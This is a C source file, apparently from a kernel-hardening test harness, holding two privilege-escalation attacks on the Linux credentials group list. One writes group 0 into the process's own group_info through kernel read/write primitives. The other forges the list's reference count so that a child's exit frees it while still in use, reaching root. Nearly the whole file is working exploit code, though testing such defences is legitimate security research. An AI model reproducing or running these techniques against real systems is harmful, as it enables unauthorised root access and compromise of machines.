// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks on the list of groups that credentials name: what it says, and when it is
 * freed.
 */
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "creds.h"
#include "list.h"
#include "objects.h"

/* struct group_info, where credentials are sealed: in words of 32 bits */
#define GROUPS_NR	1
#define GROUPS_COUNTS	2
#define GROUPS_FIRST	5

#define PAUSE		300000		/* microseconds: what nobody refers to is freed */
#define MANY		1000		/* users: it is never freed again */

/* What the credentials point to that has one group, the attacker's. */
static uint64_t find_groups(void)
{
	uint64_t words[CRED_SIZE / sizeof(uint64_t)];
	uint32_t groups[GROUPS_FIRST + 1];
	struct task task;
	size_t i;

	if (ktask(0, &task) || kread(task.cred, words, sizeof(words)))
		return 0;
	for (i = 0; i < sizeof(words) / sizeof(*words); i++)
		if (is_kernel_address(words[i]) && !kread(words[i], groups, sizeof(groups)) &&
		    groups[GROUPS_NR] == 1 && groups[GROUPS_FIRST] == ATTACKER_UID)
			return words[i];
	return 0;
}

enum outcome group_list(void)
{
	uint32_t root = 0, own = ATTACKER_UID;
	uint64_t groups = find_groups();
	uint64_t at = groups + GROUPS_FIRST * sizeof(own);
	char text[64];
	bool may;
	int err;

	if (!groups || root_file_says(text, sizeof(text)))
		return broken("no groups found, or the file is everybody's");
	err = kwrite(at, &root, sizeof(root));
	may = root_file_says(text, sizeof(text));
	kwrite(at, &own, sizeof(own));
	if (!may)
		return lost("store gave %d, %s is not read", err, ROOT_FILE);
	return won("group 0 written into the list that own credentials point to: %s says \"%s\"",
		   ROOT_FILE, text);
}

static void set_users(uint64_t groups, uint32_t users)
{
	kwrite(groups, &users, sizeof(users));
}

/* A child has the same list; of all who have it, it is said to be the only one. */
static void free_by_child(uint64_t groups)
{
	int start[2];
	char go;
	pid_t pid;

	if (pipe(start))
		return;
	pid = fork();
	if (!pid)
		_exit(read(start[0], &go, 1) != 1);
	set_users(groups, 1);
	if (write(start[1], "g", 1) == 1)
		waitpid(pid, NULL, 0);
	usleep(PAUSE);
}

enum outcome group_count(void)
{
	uint64_t groups = find_groups(), counts;
	char text[64];
	bool may;

	if (!groups || root_file_says(text, sizeof(text)))
		return broken("no groups found, or the file is everybody's");
	counts = kread64(groups + GROUPS_COUNTS * sizeof(uint32_t)) ?: groups;
	stay_on_cpu(0);
	free_by_child(counts);
	groups_take();
	may = root_file_says(text, sizeof(text));
	set_users(counts, MANY);
	if (!may)
		return lost("with a list of groups that was freed in use %s is not read", ROOT_FILE);
	return won("a list of groups with a forged count was freed in use, and became one of root's: %s says \"%s\"",
		   ROOT_FILE, text);
}
